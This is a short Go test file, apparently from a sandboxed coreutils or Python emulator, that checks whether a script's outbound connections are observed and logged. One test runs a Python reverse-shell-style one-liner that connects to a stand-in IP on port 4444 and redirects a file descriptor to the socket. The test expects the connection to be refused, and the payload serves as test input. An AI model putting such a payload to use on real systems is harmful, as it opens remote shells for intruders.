package coreutils_test

import (
	"strings"
	"testing"
)

// TestPython holds our answers against those of Debian's python3.
func TestPython(t *testing.T) { replay(t, "python.json", 0.95) }

// TestPythonReaches checks that what a script does to the outside is seen.
func TestPythonReaches(t *testing.T) {
	b := newBench(t, "debian-12-fresh")
	_, errs, rc := b.run("", "python3", "-c", `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.9",4444));os.dup2(s.fileno(),0)`)
	if rc != 1 || !strings.HasSuffix(errs, "ConnectionRefusedError: [Errno 111] Connection refused\n") {
		t.Errorf("got %q %d", errs, rc)
	}
	if len(b.seen) != 1 || b.seen[0] != "get python3 tcp://198.51.100.9:4444 " {
		t.Errorf("seen %q", b.seen)
	}
	out, _, _ := b.run("", "python3", "-c", `import os; os.system("id -u"); print(os.popen("hostname").read())`)
	if out != "0\nsrv01\n\n" {
		t.Errorf("os.system: %q", out)
	}
}
